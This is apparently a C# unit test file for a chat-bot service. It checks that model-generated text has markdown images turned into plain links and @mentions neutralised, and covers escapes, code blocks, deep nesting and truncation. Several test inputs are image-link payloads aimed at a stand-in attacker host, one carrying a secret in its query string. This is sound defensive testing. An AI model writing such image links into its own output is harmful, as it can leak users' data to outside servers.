using OpenOps.BotService.Conversations;
using OpenOps.BotService.Replies;

namespace OpenOps.BotService.Tests.Replies;

public sealed class ModelTextTests
{
    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("![chart](http://evil.test/?q=secret)", "[chart](http://evil.test/?q=secret)")]
    [InlineData("![](http://evil.test/x.png)", "[image](http://evil.test/x.png)")]
    [InlineData("![a](http://evil.test/x.png =100x100)", "[a](http://evil.test/x.png =100x100)")]
    [InlineData("![a][ref]\n\n[ref]: http://evil.test", "[a][ref]\n\n[ref]: http://evil.test")]
    [InlineData("[![a](http://evil.test/i)](http://evil.test)", "[[a](http://evil.test/i)](http://evil.test)")]
    [InlineData("\\![a](http://example.test)", "\\![a](http://example.test)")]
    [InlineData("\\\\![a](http://example.test)", "\\\\[a](http://example.test)")]
    [InlineData("`![a](b)`", "`![a](b)`")]
    [InlineData("```\n![a](b)\n```\n![a](b)", "```\n![a](b)\n```\n[a](b)")]
    [InlineData("    ![indented](b)", "    [indented](b)")]
    [InlineData("wow!", "wow!")]
    [InlineData("a\0b", "ab")]
    public void Neutralise_Pictures_BecomeLinks(string text, string expected) => Assert.Equal(expected, ModelText.Neutralise(text));

    [Theory]
    [InlineData("@all listen")]
    [InlineData("hey @channel")]
    [InlineData("@here")]
    [InlineData("ask @alice.")]
    [InlineData("(@alice)")]
    [InlineData("one.@alice")]
    [InlineData("**@alice**")]
    [InlineData("> @alice")]
    [InlineData("    @alice indented")]
    [InlineData("```\ncode\n```\n@alice")]
    [InlineData("\\@alice")]
    [InlineData("&lt;@alice")]
    public void Neutralise_Mentions_NotifyNobody(string text)
    {
        var shown = ModelText.Neutralise(text);
        foreach (var name in (string[])["all", "channel", "here", "alice"])
        {
            Assert.False(Mentions.Contain(shown, name));
        }

        Assert.Equal(text, ModelText.Restore(shown));
    }

    [Theory]
    [InlineData("mail me@example.test")]
    [InlineData("`@property`")]
    [InlineData("```python\n@decorator\ndef f(): pass\n```")]
    [InlineData("3 @ 4")]
    public void Neutralise_OtherSigns_Stay(string text) => Assert.Equal(text, ModelText.Neutralise(text));

    [Theory]
    [InlineData(">")]
    [InlineData("- ")]
    [InlineData("1. ")]
    public void Neutralise_NestedTooDeep_IsHarmless(string piece)
    {
        var nested = string.Concat(Enumerable.Repeat(piece, 2_000));

        Assert.Equal($"{nested}@\u200Ball [x](http://example.test/x)", ModelText.Neutralise($"{nested}@all ![x](http://example.test/x)"));
    }

    [Fact]
    public void Neutralise_AnyPrefix_IsHarmless()
    {
        const string text = "Look: ![a](http://evil.test/x) and @all, then `@code` and ```\n@in\n```";
        for (var length = 0; length <= text.Length; length++)
        {
            var shown = ModelText.Neutralise(text[..length]);
            Assert.DoesNotContain("![", shown, StringComparison.Ordinal);
            Assert.False(Mentions.Contain(shown, "all"));
        }
    }
}
